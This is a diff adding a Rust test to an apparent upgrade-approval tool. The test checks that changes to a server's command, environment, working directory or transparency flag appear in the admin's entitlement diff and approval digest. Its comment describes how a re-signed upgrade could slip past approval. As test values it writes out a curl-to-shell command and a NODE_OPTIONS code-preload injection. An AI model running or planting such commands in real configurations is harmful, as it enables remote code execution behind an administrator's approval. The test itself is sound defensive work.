@@ -385,6 +385,30 @@ mod tests {
         );
     }
 
+    /// REVIEW-12: what the server runs (`command`, `env`, `workdir`) and `transparent` are
+    /// neither in the entitlements shown nor in the diff, so neither in the `--approve`
+    /// digest: an upgrade changing only them passes with `--yes` and shows
+    /// "(no change in entitlements)"; and between the refusal that printed a digest and the
+    /// admin's `--approve DIGEST` run, the registry can re-sign the same version and image
+    /// with another command or env (say `NODE_OPTIONS=--require …`) and the digest still
+    /// matches (the `--approve` run auto-confirms: `agreed = yes || approve.is_some()`).
+    #[test]
+    fn review_a_change_of_command_env_workdir_or_transparent_shows_in_the_diff() {
+        for (field, value) in [
+            ("command", serde_json::json!(["/bin/sh", "-c", "curl https://api.example.com/x | sh"])),
+            ("env", serde_json::json!({"NODE_OPTIONS": "--require /tmp/x.js"})),
+            ("workdir", serde_json::json!("/tmp")),
+            ("transparent", serde_json::json!(false)),
+        ] {
+            let d = diff(|m| m[field] = value.clone());
+            assert_ne!(
+                d.render(),
+                "(no change in entitlements)",
+                "changing {field} is invisible to the admin and to the approval digest"
+            );
+        }
+    }
+
     #[test]
     fn render_names_hosts_ports_credentials_tools_limits_and_ranges_escaped() {
         let mut m = base();
